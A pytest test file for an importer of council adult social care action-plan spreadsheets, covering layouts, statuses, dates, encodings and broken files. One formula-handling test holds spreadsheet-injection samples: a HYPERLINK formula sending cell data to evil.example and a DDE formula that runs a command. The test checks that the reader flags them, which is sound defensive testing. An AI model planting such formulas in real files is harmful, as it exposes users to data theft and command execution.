"""The action-plan reader on spreadsheets built in the test: layouts councils use, and broken files."""

from __future__ import annotations

import os
import zipfile
from collections.abc import Callable, Sequence
from datetime import UTC, date, datetime
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook
from openpyxl.styles import Color, PatternFill
from openpyxl.worksheet.worksheet import Worksheet
from reportlab.pdfgen.canvas import Canvas

from importers.action_plan import NO_HEADER, Column, column_of, owner_people, read_action_plan
from importers.plan_dates import parse_due
from importers.plan_limits import MAX_CELL_CHARS, MAX_COLUMNS, MAX_ROWS, PlanLimitError
from importers.plan_model import ActionPlan, PlanAction, SkippedRow, SkippedSheet
from importers.plan_status import read_status
from peergraph.core.errors import InputFileError

MAX_BYTES = 10 * 1024 * 1024
REC_1 = "Develop and implement a Housing Strategy for Somerset, joining up adult social care and Housing."
REC_2 = "Prove the impact and outcomes of the prevention offer."


def save(workbook: Workbook, path: Path) -> Path:
    workbook.save(path)
    return path


def add_rows(sheet: Worksheet, rows: Sequence[Sequence[Any]], first_row: int = 1) -> None:
    for offset, row in enumerate(rows):
        for column, value in enumerate(row, start=1):
            if value is not None:
                sheet.cell(row=first_row + offset, column=column, value=value)


def solid(colour: str | Color) -> PatternFill:
    return PatternFill(fill_type="solid", fgColor=colour)


def action(**fields: Any) -> PlanAction:
    """A PlanAction with the defaults of an action sheet called "Action plan"."""
    return PlanAction(**{"sheet": "Action plan", **fields})


# --- layouts ------------------------------------------------------------------------------------


def test_header_under_a_merged_title_and_blank_rows(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Action plan"
    sheet["A1"] = "Somerset Council – Adult Social Care Peer Challenge Action Plan"
    sheet.merge_cells("A1:F1")
    sheet["A2"] = "Version 3, owned by the ASC Improvement Board"
    add_rows(
        sheet,
        [
            ["Ref", "Recommendation", "Action", "Lead", "Target date", "Status"],
            [
                "R1",
                REC_1,
                "Draft the Housing Strategy with Housing colleagues",
                "Jane Smith, Head of Commissioning",
                "31/03/2025",
                "On track",
            ],
            [],
            [
                "R2",
                REC_2,
                "Publish a prevention outcomes framework",
                "DASS / J. Smith",
                "Q3 2024/25",
                "Complete",
            ],
        ],
        first_row=4,
    )

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    assert plan.sheets_read == ["Action plan"]
    assert plan.skipped_rows == []
    assert plan.actions == [
        action(
            row=5,
            ref="R1",
            recommendation_text=REC_1,
            action_text="Draft the Housing Strategy with Housing colleagues",
            owner_text="Jane Smith, Head of Commissioning",
            owner_roles=[],
            owner_people=["Jane Smith"],
            due_date=date(2025, 3, 31),
            due_text="31/03/2025",
            due_precision="day",
            status="on_track",
            status_text="On track",
        ),
        action(
            row=7,
            ref="R2",
            recommendation_text=REC_2,
            action_text="Publish a prevention outcomes framework",
            owner_text="DASS / J. Smith",
            owner_roles=["DASS"],
            owner_people=["J. Smith"],
            due_date=date(2024, 12, 31),
            due_text="Q3 2024/25",
            due_precision="quarter",
            status="complete",
            status_text="Complete",
        ),
    ]
    assert plan.source == "plan.xlsx"
    assert len(plan.source_sha256) == 64


def test_recommendation_merged_over_its_action_rows(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Action plan"
    add_rows(
        sheet,
        [
            ["No.", "Peer challenge recommendation", "What we will do", "Responsible officer", "By when"],
            [1, REC_1, "Scope the strategy", "Head of Housing", "June 2025"],
            [None, None, "Consult residents", "Head of Housing", "Sept 2025"],
            [None, None, "Cabinet approval", "Lead Member for Adult Social Care", "Dec 2025"],
            [2, REC_2, "Agree outcome measures with Public Health", "Director of Public Health", "2025/26"],
            [None, None, "Report outcomes to the Health and Wellbeing Board", "DPH", "Q4 2025/26"],
        ],
    )
    sheet.merge_cells("A2:A4")
    sheet.merge_cells("B2:B4")

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    assert [(item.row, item.ref, item.recommendation_text, item.action_text) for item in plan.actions] == [
        (2, "1", REC_1, "Scope the strategy"),
        (3, "1", REC_1, "Consult residents"),
        (4, "1", REC_1, "Cabinet approval"),
        (5, "2", REC_2, "Agree outcome measures with Public Health"),
        (6, "2", REC_2, "Report outcomes to the Health and Wellbeing Board"),  # blank cells: the row above
    ]
    assert plan.actions[2].owner_roles == ["Portfolio Holder"]
    assert plan.actions[4].owner_roles == ["Director of Public Health"]
    assert [(item.due_date, item.due_precision) for item in plan.actions] == [
        (date(2025, 6, 30), "month"),
        (date(2025, 9, 30), "month"),
        (date(2025, 12, 31), "month"),
        (date(2026, 3, 31), "year"),
        (date(2026, 3, 31), "quarter"),
    ]


def test_recommendation_heading_rows_and_section_rows_are_skipped_with_reasons(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Action plan"
    add_rows(
        sheet,
        [
            ["Ref", "Recommendation", "Action", "Owner", "Due"],
            ["Theme 1: Working with people"],
            ["R1", REC_1],
            [None, None, "Scope the strategy", "PSW", "Mar-25"],
            [None, None, "Consult residents", "PSW", "Apr-25"],
            ["Ref", "Recommendation", "Action", "Owner", "Due"],
            ["R2", REC_2, "Agree measures", "PSW", "May-25"],
            [None, None, None, "PSW"],
        ],
    )
    sheet.merge_cells("A2:E2")

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    assert [(item.row, item.ref, item.recommendation_text, item.action_text) for item in plan.actions] == [
        (4, "R1", REC_1, "Scope the strategy"),
        (5, "R1", REC_1, "Consult residents"),
        (7, "R2", REC_2, "Agree measures"),
    ]
    assert plan.skipped_rows == [
        SkippedRow(sheet="Action plan", row=2, reason="section heading: Theme 1: Working with people"),
        SkippedRow(sheet="Action plan", row=3, reason="the recommendation heading for the actions below"),
        SkippedRow(sheet="Action plan", row=6, reason="the header row again"),
        SkippedRow(
            sheet="Action plan", row=8, reason="no action text, though it fills Owner: PSW", filled=["Owner"]
        ),
    ]


def test_every_sheet_with_a_header_is_read_and_instructions_are_skipped(tmp_path: Path) -> None:
    workbook = Workbook()
    instructions = workbook.active
    instructions.title = "Instructions"
    add_rows(
        instructions, [["How to fill in this plan"], ["Action: what you will do"], ["Lead: who owns it"]]
    )
    first = workbook.create_sheet("Theme 1")
    add_rows(
        first,
        [
            ["Rec ref", "Finding", "Actions", "Owner", "Deadline", "RAG"],
            ["R1", REC_1, "Scope", "PSW", "31.03.25", "Green"],
        ],
    )
    second = workbook.create_sheet("Theme 2")
    add_rows(
        second,
        [
            [
                "Recommendation number",
                "Area for development",
                "Council response",
                "Accountable",
                "Timescale",
                "Progress rating",
                "Commentary",
                "Date of update",
            ],
            [
                "3",
                REC_2,
                "Evaluate",
                "Commissioners",
                "Spring 2025",
                "2 - On track",
                "Draft ready",
                datetime(2025, 1, 15),
            ],
        ],
    )
    notes = workbook.create_sheet("Summary")
    add_rows(notes, [["Total actions", 2]])

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    assert plan.sheets_read == ["Theme 1", "Theme 2"]
    assert plan.sheets_skipped == [
        SkippedSheet(sheet="Instructions", reason="an instructions, history or lookup sheet"),
        SkippedSheet(sheet="Summary", reason=NO_HEADER),
    ]
    assert plan.actions == [
        action(
            sheet="Theme 1",
            row=2,
            ref="R1",
            recommendation_text=REC_1,
            action_text="Scope",
            owner_text="PSW",
            owner_roles=["Principal Social Worker"],
            due_date=date(2025, 3, 31),
            due_text="31.03.25",
            due_precision="day",
            status="on_track",
            status_text="Green",
            rag="green",
        ),
        action(
            sheet="Theme 2",
            row=2,
            ref="3",
            recommendation_text=REC_2,
            action_text="Evaluate",
            owner_text="Commissioners",
            owner_roles=["Commissioning"],
            due_date=date(2025, 5, 31),
            due_text="Spring 2025",
            due_precision="quarter",
            status="on_track",
            status_text="2 - On track",
            progress="Draft ready",
            updated_on=date(2025, 1, 15),
        ),
    ]


def test_colour_only_rag_cells(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Action plan"
    fills: list[str | Color] = [
        "FFFF0000",  # red
        "FFFFC000",  # amber
        "FF00B050",  # green
        "FF0070C0",  # blue
        "FFC7CE",  # Excel's pale red "Bad" fill, RGB without alpha
        Color(theme=6),  # accent3 of the default theme: green
        Color(theme=9, tint=0.4),  # accent6, lightened: orange
        Color(indexed=10),  # the indexed palette's red
        "FFD9D9D9",  # grey: not a rating
    ]
    add_rows(sheet, [["Action", "Lead", "RAG"]] + [[f"Action {index}", "PSW"] for index in range(len(fills))])
    for index, colour in enumerate(fills):
        sheet.cell(row=index + 2, column=3).fill = solid(colour)

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    assert [(item.action_text, item.rag, item.status, item.status_text) for item in plan.actions] == [
        ("Action 0", "red", "slipped", None),
        ("Action 1", "amber", "at_risk", None),
        ("Action 2", "green", "on_track", None),
        ("Action 3", "blue", "complete", None),
        ("Action 4", "red", "slipped", None),
        ("Action 5", "green", "on_track", None),
        ("Action 6", "amber", "at_risk", None),
        ("Action 7", "red", "slipped", None),
        ("Action 8", None, None, None),
    ]


def test_status_words_beat_the_rag_colour_and_a_separate_rag_column_is_kept(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Action plan"
    add_rows(
        sheet,
        [
            ["Action", "Status", "RAG"],
            ["Recruit OTs", "Delayed", "Amber/Green"],
            ["Audit cases", "Not started", None],
            ["Train staff", None, "R"],
        ],
    )
    sheet["C3"].fill = solid("FF00B050")

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    assert [(item.status, item.status_text, item.rag) for item in plan.actions] == [
        ("slipped", "Delayed", "amber"),
        ("not_started", "Not started", "green"),
        ("slipped", "R", "red"),
    ]


@pytest.mark.parametrize(
    ("grade", "status"),
    [
        ("1", "complete"),
        (1, "complete"),
        ("1 Achieved", "complete"),
        ("2 - On track", "on_track"),
        ("2 On track (not yet due)", "on_track"),
        ("Grade 3", "slipped"),
        ("3 - Slipped", "slipped"),
        ("4", "not_achieved"),
        ("4 Not achieved", "not_achieved"),
    ],
)
def test_scrutiny_grades(tmp_path: Path, grade: str | int, status: str) -> None:
    workbook = Workbook()
    add_rows(workbook.active, [["Action", "Scrutiny grade"], ["Recruit OTs", grade]])

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    assert (plan.actions[0].status, plan.actions[0].status_text) == (status, str(grade))


@pytest.mark.parametrize(
    ("text", "status"),
    [
        ("Complete", "complete"),
        ("Completed", "complete"),
        ("Done", "complete"),
        ("Achieved", "complete"),
        ("On track", "on_track"),
        ("In progress", "on_track"),
        ("Started", "on_track"),
        ("Partially complete", "on_track"),
        ("At risk", "at_risk"),
        ("Delayed", "slipped"),
        ("Slipped", "slipped"),
        ("Behind schedule", "slipped"),
        ("Overdue", "slipped"),
        ("Not started", "not_started"),
        ("Not achieved", "not_achieved"),
        ("Ongoing", "on_track"),
        ("Blue", None),
        ("", None),
    ],
)
def test_status_words(text: str, status: str | None) -> None:
    assert read_status(text).status == status


# --- dates --------------------------------------------------------------------------------------

DUE_FORMS = [
    ("31/03/2025", date(2025, 3, 31), "day"),
    ("31.03.25", date(2025, 3, 31), "day"),
    ("31 March 2025", date(2025, 3, 31), "day"),
    ("31st Mar 2025", date(2025, 3, 31), "day"),
    ("March 2025", date(2025, 3, 31), "month"),
    ("Mar-25", date(2025, 3, 31), "month"),
    ("end of March 25", date(2025, 3, 31), "month"),
    ("by end March 2025", date(2025, 3, 31), "month"),
    ("Q3 2024/25", date(2024, 12, 31), "quarter"),
    ("Q4 2024/25", date(2025, 3, 31), "quarter"),
    ("Q1 2025", date(2025, 3, 31), "quarter"),
    ("Spring 2025", date(2025, 5, 31), "quarter"),
    ("Autumn 2025", date(2025, 11, 30), "quarter"),
    ("2025/26", date(2026, 3, 31), "year"),
    ("ongoing", None, None),
    ("TBC", None, None),
    ("03/31/2025", None, None),  # US order is never guessed
]


@pytest.mark.parametrize(("text", "due", "precision"), DUE_FORMS)
def test_due_text_forms(text: str, due: date | None, precision: str | None) -> None:
    parsed = parse_due(text)
    assert (parsed.on, parsed.precision) == (due, precision)


def test_due_dates_keep_their_text_and_precision_in_a_sheet(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    add_rows(
        sheet,
        [["Action", "Target date"]]
        + [[f"Action {index}", text] for index, (text, _, _) in enumerate(DUE_FORMS)],
    )
    add_rows(
        sheet,
        [["Excel date", datetime(2025, 3, 31)], ["Excel month", datetime(2025, 3, 1)]],
        first_row=len(DUE_FORMS) + 2,
    )
    sheet.cell(row=len(DUE_FORMS) + 2, column=2).number_format = "dd/mm/yyyy"
    sheet.cell(row=len(DUE_FORMS) + 3, column=2).number_format = "mmm-yy"

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    expected = [*DUE_FORMS, ("31/03/2025", date(2025, 3, 31), "day"), ("Mar-25", date(2025, 3, 31), "month")]
    assert [(item.due_text, item.due_date, item.due_precision) for item in plan.actions] == expected


# --- columns, owners, CSV -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "column"),
    [
        ("Ref", Column.REF),
        ("No.", Column.REF),
        ("Rec Ref", Column.REF),
        ("Recommendation number", Column.REF),
        ("Peer Challenge Recommendation", Column.RECOMMENDATION),
        ("Finding", Column.RECOMMENDATION),
        ("Actions", Column.ACTION),
        ("What we will do", Column.ACTION),
        ("Actions to address the recommendation", Column.ACTION),
        ("Response", Column.ACTION),
        ("Lead", Column.OWNER),
        ("Action owner", Column.OWNER),
        ("Responsible Officer", Column.OWNER),
        ("Who", Column.OWNER),
        ("Timescale", Column.DUE),
        ("Target date", Column.DUE),
        ("By when?", Column.DUE),
        ("Completion date", Column.DUE),
        ("Status", Column.STATUS),
        ("Progress rating", Column.STATUS),
        ("RAG", Column.RAG),
        ("BRAG status", Column.RAG),
        ("Progress update", Column.PROGRESS),
        ("Evidence", Column.PROGRESS),
        ("Notes", Column.PROGRESS),
        ("Date of update", Column.UPDATED_ON),
        ("Last updated", Column.UPDATED_ON),
        ("Target outcome", None),
        ("Theme", None),
        ("Success measures", None),
    ],
)
def test_header_synonyms(header: str, column: Column | None) -> None:
    assert column_of(header) == column


@pytest.mark.parametrize(
    ("owner", "people"),
    [
        ("Jane Smith, Head of Commissioning", ["Jane Smith"]),
        ("DASS / J. Smith", ["J. Smith"]),
        ("Cllr Ann O'Brien (Lead Member)", ["Cllr Ann O'Brien"]),
        ("Principal Social Worker", []),
        ("Adult Social Care Leadership Team", []),
        ("Direct Payments Lead and Mary-Ann Jones", ["Mary-Ann Jones"]),
    ],
)
def test_owner_people(owner: str, people: list[str]) -> None:
    assert owner_people(owner) == people


def test_unknown_columns_are_kept_in_extra(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Action plan"
    add_rows(
        sheet,
        [
            ["Theme", "Action", "Lead", "Success measure", None, "Resources"],
            ["Leadership", "Publish the ASC strategy", "DASS", "Strategy published", "see note 4", 12000.0],
        ],
    )

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    assert plan.actions == [
        action(
            row=2,
            action_text="Publish the ASC strategy",
            owner_text="DASS",
            owner_roles=["DASS"],
            extra={
                "Theme": "Leadership",
                "Success measure": "Strategy published",
                "column E": "see note 4",
                "Resources": "12000",
            },
        )
    ]


def test_csv_with_bom_and_semicolons(tmp_path: Path) -> None:
    path = tmp_path / "trafford-plan.csv"
    path.write_bytes(
        "\ufeffTrafford action plan;;;;\n"
        ";;;;\n"
        "Ref;Recommendation;Action;Lead;Due;Status;Progress update\n"
        'R1;"Make the carers offer more robust; review the £350 limit";Review carers offer;Carers lead;'
        "Q2 2025/26;In progress;Survey done\n"
        ";;Co-produce a new offer;Jane Smith;Mar-26;Not started;\n".encode()
    )

    plan = read_action_plan(path, MAX_BYTES)

    recommendation = "Make the carers offer more robust; review the £350 limit"
    assert plan.sheets_read == ["trafford-plan"]
    assert plan.actions == [
        action(
            sheet="trafford-plan",
            row=4,
            ref="R1",
            recommendation_text=recommendation,
            action_text="Review carers offer",
            owner_text="Carers lead",
            due_date=date(2025, 9, 30),
            due_text="Q2 2025/26",
            due_precision="quarter",
            status="on_track",
            status_text="In progress",
            progress="Survey done",
        ),
        action(
            sheet="trafford-plan",
            row=5,
            ref="R1",
            recommendation_text=recommendation,
            action_text="Co-produce a new offer",
            owner_text="Jane Smith",
            owner_people=["Jane Smith"],
            due_date=date(2026, 3, 31),
            due_text="Mar-26",
            due_precision="month",
            status="not_started",
            status_text="Not started",
        ),
    ]


@pytest.mark.parametrize(
    ("recommendation", "ref"),
    [
        ("R4 Strengthen scrutiny challenge", "R4"),
        ("Recommendation 2: Produce a communications plan", "Recommendation 2"),
        ("3. Corporate approach to EDI", "3"),
        ("2.1) Support recruitment", "2.1"),
        ("2025 budget to be agreed", None),
    ],
)
def test_a_ref_opening_the_recommendation_text_is_the_ref(
    tmp_path: Path, recommendation: str, ref: str | None
) -> None:
    path = tmp_path / "plan.csv"
    path.write_text(f"Recommendation,Action\n{recommendation},Do it\n", encoding="utf-8")

    plan = read_action_plan(path, MAX_BYTES)

    assert (plan.actions[0].ref, plan.actions[0].recommendation_text) == (ref, recommendation)


def test_csv_in_windows_1252_with_commas(tmp_path: Path) -> None:
    path = tmp_path / "plan.csv"
    path.write_bytes(
        "Action,Owner,Timescale\nReview the £350 carers’ payment,Head of Service,2025\n".encode("cp1252")
    )

    plan = read_action_plan(path, MAX_BYTES)

    assert [(item.action_text, item.due_date, item.due_precision) for item in plan.actions] == [
        ("Review the £350 carers’ payment", date(2025, 12, 31), "year")
    ]


# --- bad input ----------------------------------------------------------------------------------


def write_junk_xlsx(path: Path) -> None:
    path.write_bytes(bytes((index * 97 + 13) % 256 for index in range(8192)))


def write_pdf_as_xlsx(path: Path) -> None:
    canvas = Canvas(str(path))
    canvas.drawString(72, 720, "Action plan")
    canvas.save()


def write_prose_as_csv(path: Path) -> None:
    path.write_text("Dear colleague,\nplease find the plan attached.\nRegards\n", encoding="utf-8")


def write_empty(path: Path) -> None:
    path.write_bytes(b"")


def write_blank_csv(path: Path) -> None:
    path.write_text(" \n;;;\n\n", encoding="utf-8")


def write_workbook_without_header(path: Path) -> None:
    workbook = Workbook()
    add_rows(workbook.active, [["Budget", "2024/25"], ["Staffing", 1200]])
    workbook.save(path)


def write_header_without_actions(path: Path) -> None:
    workbook = Workbook()
    add_rows(workbook.active, [["Action", "Owner", "Due"]])
    workbook.save(path)


def write_zip_not_workbook(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("notes.txt", "not a workbook")


def write_truncated_xlsx(path: Path) -> None:
    buffer = BytesIO()
    workbook = Workbook()
    add_rows(workbook.active, [["Action", "Owner"], ["Do it", "DASS"]])
    workbook.save(buffer)
    path.write_bytes(buffer.getvalue()[:600])


def write_corrupt_deflate_xlsx(path: Path) -> None:
    buffer = BytesIO()
    workbook = Workbook()
    add_rows(workbook.active, [["Action", "Owner"], ["Do it", "DASS"]])
    workbook.save(buffer)
    data = bytearray(buffer.getvalue())
    with zipfile.ZipFile(BytesIO(bytes(data))) as archive:
        entry = archive.getinfo("xl/worksheets/sheet1.xml")
    start = entry.header_offset + 30 + len(entry.filename.encode()) + len(entry.extra)
    data[start : start + 4] = b"\xff\xff\xff\xff"  # the compressed stream itself is broken (zlib.error)
    path.write_bytes(bytes(data))


def write_encrypted_xlsx(path: Path) -> None:
    ooxml = pytest.importorskip("msoffcrypto.format.ooxml")
    plain = BytesIO()
    workbook = Workbook()
    add_rows(workbook.active, [["Action", "Owner"], ["Do it", "DASS"]])
    workbook.save(plain)
    plain.seek(0)
    with path.open("wb") as out:
        ooxml.OOXMLFile(plain).encrypt("secret", out)


@pytest.mark.parametrize(
    ("name", "write", "reason"),
    [
        ("junk.xlsx", write_junk_xlsx, "not an Excel workbook (not a zip archive)"),
        ("report.xlsx", write_pdf_as_xlsx, "a PDF file, not a spreadsheet"),
        ("letter.csv", write_prose_as_csv, NO_HEADER),
        ("empty.xlsx", write_empty, "the file is empty"),
        ("blank.csv", write_blank_csv, "the spreadsheet is empty (no cell holds text)"),
        ("budget.xlsx", write_workbook_without_header, NO_HEADER),
        ("template.xlsx", write_header_without_actions, "no actions below the header row on Sheet"),
        ("archive.xlsx", write_zip_not_workbook, "a zip archive that is not an Excel workbook"),
        ("cut.xlsx", write_truncated_xlsx, "not an Excel workbook (damaged zip archive"),
        ("inflate.xlsx", write_corrupt_deflate_xlsx, "not an Excel workbook (damaged zip archive"),
        ("locked.xlsx", write_encrypted_xlsx, "the workbook is password-protected"),
    ],
)
def test_bad_input_is_one_line_naming_the_file(
    tmp_path: Path, name: str, write: Callable[[Path], None], reason: str
) -> None:
    path = tmp_path / name
    write(path)

    with pytest.raises(InputFileError) as raised:
        read_action_plan(path, MAX_BYTES)

    message = str(raised.value)
    assert message.startswith(f"{name}: ")
    assert reason in message
    assert "\n" not in message


def test_plan_round_trips_as_json(tmp_path: Path) -> None:
    workbook = Workbook()
    add_rows(workbook.active, [["Action", "Due", "Status"], ["Do it", "Q1 2025", "Done"]])

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    assert ActionPlan.model_validate_json(plan.model_dump_json()) == plan


# --- rows that are no action, as-of dates, formulas, limits, encodings, bad cells -----------------


def test_rows_with_no_action_text_are_skipped_and_those_filling_other_cells_are_named(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Action plan"
    rows: list[list[Any]] = [
        ["Ref", "Recommendation", "Action", "Lead officer", "Status", "peergraph link key"]
    ]
    rows += [
        [f"R{number}", f"Recommendation {number}", None, None, None, f"rec-{number}"]
        for number in range(1, 8)
    ]
    rows[1][2:5] = ["Publish the strategy", "DASS", "On track"]
    rows[4][2:5] = ["Recruit two OTs", "Head of OT", "Not started"]
    rows[6][3:5] = ["PSW", "At risk"]  # an owner and a status, but the action was never written
    add_rows(sheet, rows)

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    assert [(item.row, item.action_text) for item in plan.actions] == [
        (2, "Publish the strategy"),
        (5, "Recruit two OTs"),
    ]
    assert [(item.row, item.filled) for item in plan.skipped_rows] == [
        (3, []),
        (4, []),
        (6, []),
        (7, ["Lead officer", "Status"]),
        (8, []),
    ]
    assert plan.skipped_rows[0].reason == "no action text"
    assert plan.skipped_rows[3].reason.startswith("no action text, though it fills Lead officer, Status: R6")


@pytest.mark.parametrize(
    ("above_header", "as_of", "detail"),
    [
        (
            [["Westmoor action plan"], ["As at 30 June 2025"]],
            date(2025, 6, 30),
            "cell A2: As at 30 June 2025",
        ),
        (
            [["Plan", None, "Last updated:", datetime(2025, 10, 10)]],
            date(2025, 10, 10),
            "cell C1: Last updated:",
        ),
        ([["Action plan – position as at 31/03/2026"]], date(2026, 3, 31), "cell A1"),
        ([["Date of update", "June 2025"]], date(2025, 6, 30), "cell A1: Date of update June 2025"),
    ],
)
def test_the_plan_date_from_the_rows_above_the_header(
    tmp_path: Path, above_header: list[list[Any]], as_of: date, detail: str
) -> None:
    workbook = Workbook()
    add_rows(workbook.active, [*above_header, ["Action", "Owner"], ["Do it", "DASS"]])

    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)

    assert (plan.as_of, plan.as_of_source) == (as_of, "sheet")
    assert detail in (plan.as_of_detail or "")


def test_the_plan_date_from_a_date_of_update_column_then_the_file_time_and_a_given_date_beats_both(
    tmp_path: Path,
) -> None:
    dated = tmp_path / "dated.csv"
    dated.write_text(
        "Action,Date of update\nDo it,20/06/2025\nDo more,21/06/2025\nLater,\n", encoding="utf-8"
    )
    undated = tmp_path / "undated.csv"
    undated.write_text("Action,Owner\nDo it,DASS\n", encoding="utf-8")
    os.utime(undated, (datetime(2025, 4, 1, 9, 30, tzinfo=UTC).timestamp(),) * 2)

    from_column = read_action_plan(dated, MAX_BYTES)
    from_file = read_action_plan(undated, MAX_BYTES)
    given = read_action_plan(dated, MAX_BYTES, as_of=date(2025, 7, 1))

    assert (from_column.as_of, from_column.as_of_source) == (date(2025, 6, 21), "column")
    assert [item.updated_on for item in from_column.actions] == [date(2025, 6, 20), date(2025, 6, 21), None]
    assert (from_file.as_of, from_file.as_of_source) == (datetime(2025, 4, 1, 9, 30, tzinfo=UTC), "file")
    assert (given.as_of, given.as_of_source) == (date(2025, 7, 1), "given")


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("Q5 2024/25", "no such quarter"),
        ("Q0 2025", "no such quarter"),
        ("31/02/2025", "no such day"),
        ("30th February 2026", "no such day"),
        ("13/2025", "no such month"),
        ("Q3 2024/26", "no such financial year"),
        ("June 2025, revised to 31/02/2026", "no such day"),
    ],
)
def test_impossible_dates_are_no_date_and_say_why(text: str, problem: str) -> None:
    parsed = parse_due(text)

    assert (parsed.on, parsed.precision) == (None, None)
    assert parsed.problem is not None and problem in parsed.problem


def test_a_bad_cell_is_reported_by_row_and_column_and_costs_only_itself(tmp_path: Path) -> None:
    path = tmp_path / "plan.csv"
    path.write_text(
        "Ref,Action,Lead,Target date\n"
        "R1,Publish the\x00 strategy,DASS,Q5 2024/25\n"
        "R2,Recruit OTs,Head of OT,31/02/2025\n"
        "R3,Train staff,PSW,Q4 2024/25\n",
        encoding="utf-8",
    )

    plan = read_action_plan(path, MAX_BYTES)

    assert [(item.action_text, item.due_date, item.due_text) for item in plan.actions] == [
        ("Publish the strategy", None, "Q5 2024/25"),
        ("Recruit OTs", None, "31/02/2025"),
        ("Train staff", date(2025, 3, 31), "Q4 2024/25"),
    ]
    assert [
        (item.row, item.column, item.header, item.reason.split(":")[0]) for item in plan.cell_problems
    ] == [
        (2, "B", "Action", "removed 1 control character(s) (NUL)"),
        (2, "D", "Target date", "no such quarter (Q1-Q4)"),
        (3, "D", "Target date", "no such day (dates read day/month/year)"),
    ]


PLAN_TEXT = "Ref\tAction\tLead\nR1\tReview the £350 carers’ payment\tHead of Service\n"


@pytest.mark.parametrize(
    "data",
    [
        "\ufeff".encode("utf-16-le") + PLAN_TEXT.encode("utf-16-le"),  # Excel's "Unicode text"
        "\ufeff".encode("utf-16-be") + PLAN_TEXT.encode("utf-16-be"),
        PLAN_TEXT.encode("utf-16-le"),  # no byte-order mark
        "\ufeff".encode() + PLAN_TEXT.encode(),
        "\ufeff".encode("utf-32-le") + PLAN_TEXT.encode("utf-32-le"),
    ],
    ids=["utf-16-le", "utf-16-be", "utf-16-le-no-bom", "utf-8-bom", "utf-32-le"],
)
def test_unicode_text_exports_read(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "plan.txt"
    path.write_bytes(data)

    plan = read_action_plan(path, MAX_BYTES)

    assert [(item.ref, item.action_text, item.owner_text) for item in plan.actions] == [
        ("R1", "Review the £350 carers’ payment", "Head of Service")
    ]


def _with_saved_value(path: Path, cell: str, value: str) -> None:
    """Give a formula cell openpyxl wrote the saved value Excel would have written."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    start = sheet.index(f'<c r="{cell}"')
    end = sheet.index("</c>", start)
    formula = sheet[sheet.index("<f>", start) : sheet.index("</f>", start) + 4]
    sheet = sheet[:start] + f'<c r="{cell}" t="str">{formula}<v>{value}</v>' + sheet[end:]
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_cells_are_read_as_values_and_a_formula_with_no_saved_value_as_its_text(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Action plan"
    add_rows(
        sheet,
        [
            ["Action", "Lead", "Progress"],
            ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "DASS", "=cmd|' /C calc'!A0"],
            ["Train staff", '=CONCAT("P","SW")', "Started"],
        ],
    )
    path = save(workbook, tmp_path / "plan.xlsx")
    _with_saved_value(path, "B3", "PSW")

    plan = read_action_plan(path, MAX_BYTES)

    assert [(item.action_text, item.owner_text, item.progress) for item in plan.actions] == [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click me")', "DASS", "=cmd|' /C calc'!A0"),
        ("Train staff", "PSW", "Started"),
    ]
    assert [(item.row, item.column) for item in plan.cell_problems] == [(2, "A"), (2, "C")]
    assert all("formula with no saved value" in item.reason for item in plan.cell_problems)


def write_too_many_rows(path: Path) -> None:
    path.write_text("Action,Owner\n" + "Do it,DASS\n" * MAX_ROWS, encoding="utf-8")


def write_too_many_columns(path: Path) -> None:
    workbook = Workbook()
    add_rows(workbook.active, [["Action", "Owner"], ["Do it", "DASS"]])
    workbook.active.cell(2, MAX_COLUMNS + 1, "a stray note")
    workbook.save(path)


def write_huge_cell_xlsx(path: Path) -> None:
    workbook = Workbook()
    add_rows(workbook.active, [["Action", "Owner"], ["x" * MAX_CELL_CHARS, "DASS"]])
    workbook.save(path)  # openpyxl cuts longer cells to Excel's limit; other writers need not
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
        "x" * MAX_CELL_CHARS, "x" * (MAX_CELL_CHARS + 1)
    ).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def write_huge_cell_csv(path: Path) -> None:
    path.write_text("Action,Owner\n" + "x" * (MAX_CELL_CHARS + 1) + ",DASS\n", encoding="utf-8")


